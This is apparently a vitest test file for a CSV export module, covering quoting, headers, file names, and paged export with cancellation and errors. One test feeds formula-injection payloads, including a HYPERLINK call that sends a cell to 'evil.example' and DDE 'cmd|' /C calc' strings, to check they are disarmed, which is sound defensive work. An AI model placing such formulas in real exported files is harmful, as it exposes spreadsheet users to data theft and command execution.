import { describe, expect, it } from 'vitest';
import type { Column } from './columns';
import { CSV_BOM, csvField, csvFields, csvFileName, csvHeader, csvRecord } from './csv';
import { exportList } from './export';

interface Car {
  id: number;
  name: string | null;
  sold: string | null;
}

const columns: Column<Car, string>[] = [
  { id: 'edit', header: 'Edit', csv: false, cell: () => null },
  { id: 'id', header: 'ID', cell: (car) => car.id },
  { id: 'name', header: 'Name "as sold"', cell: (car) => car.name },
  {
    id: 'sold',
    header: 'Sold',
    cell: (car) => car.sold,
    csv: [
      { header: 'Sold', value: (car) => car.sold },
      { header: 'Sold day', value: (car) => car.sold?.slice(0, 10) },
    ],
  },
];

describe('csv', () => {
  it('quotes every field, doubles quotes and keeps commas, line breaks and accents inside', () => {
    expect(csvField('Zoë, "the" best\r\nline')).toBe('"Zoë, ""the"" best\r\nline"');
    expect(csvField(42)).toBe('"42"');
    expect(csvField(null)).toBe('""');
    expect(csvField(undefined)).toBe('""');
  });

  it('disarms a text a spreadsheet would run as a formula, and leaves numbers and other text alone', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A2,"Open")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A2,""Open"")"');
    expect(csvField('@SUM(1+1)|cmd')).toBe('"\'@SUM(1+1)|cmd"');
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("\"'+1+cmd|' /C calc'!A0\"");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("\"'-2+3+cmd|' /C calc'!A0\"");
    expect(csvField('\t=1+1')).toBe('"\'\t=1+1"');
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField('-12.50')).toBe('"-12.50"');
    expect(csvField('+3')).toBe('"+3"');
    expect(csvField(-12.5)).toBe('"-12.5"');
    expect(csvField('Lone Star = Motors')).toBe('"Lone Star = Motors"');
    expect(csvField('a@b.example')).toBe('"a@b.example"');
  });

  it('writes the columns as declared: controls left out, a two-value cell as two fields, CRLF records', () => {
    const fields = csvFields(columns);
    expect(csvHeader(fields)).toBe('"ID","Name ""as sold""","Sold","Sold day"\r\n');
    expect(csvRecord(fields, { id: 7, name: 'Dallas, TX', sold: '2026-11-04T15:30:00.000Z' })).toBe(
      '"7","Dallas, TX","2026-11-04T15:30:00.000Z","2026-11-04"\r\n',
    );
  });

  it('refuses a cell that draws elements without a csv value, naming the column', () => {
    const bad: Column<Car, string>[] = [{ id: 'link', header: 'Link', cell: () => ({ type: 'a', props: {}, key: null }) }];
    expect(() => csvRecord(csvFields(bad), { id: 1, name: null, sold: null })).toThrow('The column "Link" draws elements: declare its csv value');
  });

  it('names the file after the list and the day', () => {
    expect(csvFileName('gate passes', new Date(2026, 10, 5, 23, 59))).toBe('gate-passes-2026-11-05.csv');
  });
});

const cars = (count: number): Car[] => Array.from({ length: count }, (_, index) => ({ id: index + 1, name: `Car ${index + 1}`, sold: null }));

function pagedServer(rows: Car[]) {
  const asked: number[] = [];
  const fetchPage = async (page: number, perPage: number) => {
    asked.push(page);
    return {
      data: rows.slice((page - 1) * perPage, page * perPage),
      total: rows.length,
      current_page: page,
      per_page: perPage,
      last_page: Math.ceil(rows.length / perPage),
    };
  };
  return { asked, fetchPage };
}

const text = (parts: Uint8Array[]) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(new Uint8Array(parts.flatMap((part) => [...part])));

describe('exportList', () => {
  it('reads every page once, in order, and writes a BOM, the header and one record per row', async () => {
    const server = pagedServer(cars(23));
    const progress: string[] = [];
    const result = await exportList({
      fetchPage: server.fetchPage,
      columns,
      signal: new AbortController().signal,
      pageSize: 10,
      onProgress: ({ done, total }) => progress.push(`${done}/${total}`),
    });
    expect(server.asked).toEqual([1, 2, 3]);
    expect(result.rows).toBe(23);
    const file = text(result.parts);
    expect(file.startsWith(CSV_BOM + '"ID",')).toBe(true);
    const lines = file.slice(1).split('\r\n');
    expect(lines).toHaveLength(25); // header, 23 rows, and the empty string after the last CRLF
    expect(lines[23]).toBe('"23","Car 23","",""');
    expect(progress).toEqual(['0/23', '10/23', '20/23', '23/23']);
  });

  it('writes only the header when the list is empty', async () => {
    const result = await exportList({ fetchPage: pagedServer([]).fetchPage, columns, signal: new AbortController().signal, pageSize: 10 });
    expect(result.rows).toBe(0);
    expect(text(result.parts)).toBe(CSV_BOM + '"ID","Name ""as sold""","Sold","Sold day"\r\n');
  });

  it('stops when cancelled and reads no further page', async () => {
    const server = pagedServer(cars(50));
    const controller = new AbortController();
    const run = exportList({
      fetchPage: server.fetchPage,
      columns,
      signal: controller.signal,
      pageSize: 10,
      onProgress: ({ done }) => done === 10 && controller.abort(),
    });
    await expect(run).rejects.toThrow();
    expect(server.asked.length).toBeLessThanOrEqual(2);
  });

  it('fails with the server error of a page', async () => {
    const fetchPage = async (page: number) => {
      if (page === 2) throw new Error('Server busy');
      return { data: cars(10), total: 30, current_page: 1, per_page: 10, last_page: 3 };
    };
    await expect(exportList({ fetchPage, columns, signal: new AbortController().signal, pageSize: 10 })).rejects.toThrow('Server busy');
  });
});
